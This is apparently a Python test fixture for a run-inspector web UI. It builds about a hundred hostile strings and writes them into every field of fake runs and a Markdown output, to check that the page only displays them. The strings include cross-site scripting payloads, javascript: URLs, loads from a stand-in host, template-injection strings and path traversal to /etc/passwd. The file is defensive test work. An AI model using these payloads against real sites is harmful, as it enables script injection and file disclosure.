"""A hundred texts that a page must only show: taken for code, each sets `window.__hit` or calls elsewhere.

Made from tags, events and disguises, so that each is another way in; and a run that has every one of them as a path, a
model, a name, a key, a value, an error, and what a model wrote.
"""

from __future__ import annotations

import itertools

from chainlab.errors import ErrorInfo
from chainlab.events import (
    AttemptFinished,
    AttemptStarted,
    Binding,
    RequestRecord,
    RunFinished,
    RunStarted,
    StepFinished,
    StepStarted,
)
from chainlab.store.store import Store
from chainlab.values.codec import Value
from chainlab.values.ids import new_id, now_us
from tests.browser.timed import Timed
from tests.inspector.story import brief
from tests.patience import until

HIT = "window.__hit=1"
ELSEWHERE = "https://elsewhere.invalid/x"

_TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
         "iframe", "object", "marquee", "select autofocus", "textarea autofocus",
         "a href=x tabindex=0 autofocus", "form"]  # fmt: skip
_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart"]
_WHOLE = [
    f"<script>{HIT}</script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<img src={ELSEWHERE}.png>",
    f"<iframe src=\"javascript:parent.{HIT}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{HIT}</script>\"></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content=\"0;url={ELSEWHERE}\">",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<svg><script>{HIT}</script></svg>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<template><img src=x onerror={HIT}></template>",
    f"<form action={ELSEWHERE}><button>x</button></form>",
    f"<a href=\"javascript:{HIT}\">x</a>",
    f"[x](javascript:{HIT})",
    f"![x]({ELSEWHERE}.png)",
    f"<javascript:{HIT}>",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"'-({HIT})-'",
    f"\"onmouseover={HIT} x=\"",
    f"</pre></code></textarea></title><img src=x onerror={HIT}>",
    f"--><img src=x onerror={HIT}><!--",
    f"]]><img src=x onerror={HIT}>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"\\x3cimg src=x onerror={HIT}\\x3e",
    f"\u003cimg src=x onerror={HIT}\u003e",
    f"<img src=x onerror\u0000={HIT}>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}}",
    f"#{{{HIT}}}",
    f"<%= {HIT} %>",
    "__proto__",
    "constructor",
    "toString",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "?step=x&tab=y#/runs",
    "\u202egnp.exe",
    "\u0000\u0001\u001b[31mred\u0007",
    "\ud800",
    "a" * 5000,
    "\u0301" * 200,
]  # fmt: skip

TEXTS = [*_WHOLE, *(f"<{tag} {event}={HIT}>" for tag, event in itertools.product(_TAGS, _EVENTS))]


def name_of(text: str) -> str:
    """A text that can be a path: what is no Unicode is in values only."""
    return text.replace("\ud800", "?")


def write_hostile_run(store: Store) -> str:
    """A run with a step for each text, and each text everywhere in it."""
    journal, run_id, at = store.journal(), new_id(), now_us()
    spec = Value({"format": "from-the-future", "name": TEXTS[0]})
    inputs = tuple(
        Binding(f"{name_of(text)}#{number}", Value({text: [text]}), None) for number, text in enumerate(TEXTS[:40])
    )
    journal.emit(
        RunStarted(
            run_id, TEXTS[0], spec.hash, spec, Value({text: text for text in TEXTS}), inputs, at,
            tags=tuple(TEXTS[:20]), label=TEXTS[1],
        )
    )  # fmt: skip
    for number, any_text in enumerate(TEXTS):
        text, other = name_of(any_text), name_of(TEXTS[(number * 7 + 3) % len(TEXTS)])
        path = f"{text}[{number}]"
        error = ErrorInfo(text, f"{text}\n{other}", expected=other, got=text, remedy=other)
        value = Value({any_text: [other, {other: any_text}]})
        bindings = (Binding(text, value, None), Binding(other + "!", Value(text), None))
        said = {"messages": [{"role": "user", "segments": [text, {"t": other, "v": text}]}],
                "parameters": {"model": text, text: other}}  # fmt: skip
        journal.emit(StepStarted(run_id, path, text, "prompt", f"{number:04d}", bindings, None, at, model=text))
        journal.emit(
            AttemptStarted(
                run_id, path, 1, "first", at, RequestRecord(Value(said)), other, text, other, text, b"\xff" * 20
            )
        )
        journal.emit(
            AttemptFinished(
                run_id, path, 1, "failed", 900, Value({"text": text, "raw": {text: other}}), error, 500, text, other
            )
        )
        journal.emit(StepFinished(run_id, path, "failed", at, 950, output=value, error=error))
    journal.emit(
        RunFinished(run_id, "failed", at, 9000, error=ErrorInfo(TEXTS[0], TEXTS[1]), error_path=f"{TEXTS[0]}[0]",
                    steps_total=len(TEXTS), steps_failed=len(TEXTS))
    )  # fmt: skip
    until(lambda: any(run.id == run_id and run.status == "failed" for run in store.reader.runs(limit=5)), "the run")
    return run_id


def write_marked_run(store: Store) -> str:
    """A run whose one output is Markdown, all texts in it as paragraphs, items, addresses and pictures."""
    lines = ["# Title", "1. first", "2. second", "", "| a | b |", "|---|---|", "| **c** | `d` |", "", "> quoted", ""]
    for text in map(name_of, TEXTS):
        lines += [text, "", f"- {text}", "", f"[x](<{text}>) ![x](<{text}>)", "", f"**{text}**", ""]
    run = Timed(store.journal())
    run.begin(brief)
    run.step("draft", "0000", 0, 5, output=Value("\n".join(lines)))
    return run.finish(store, 5, 1)
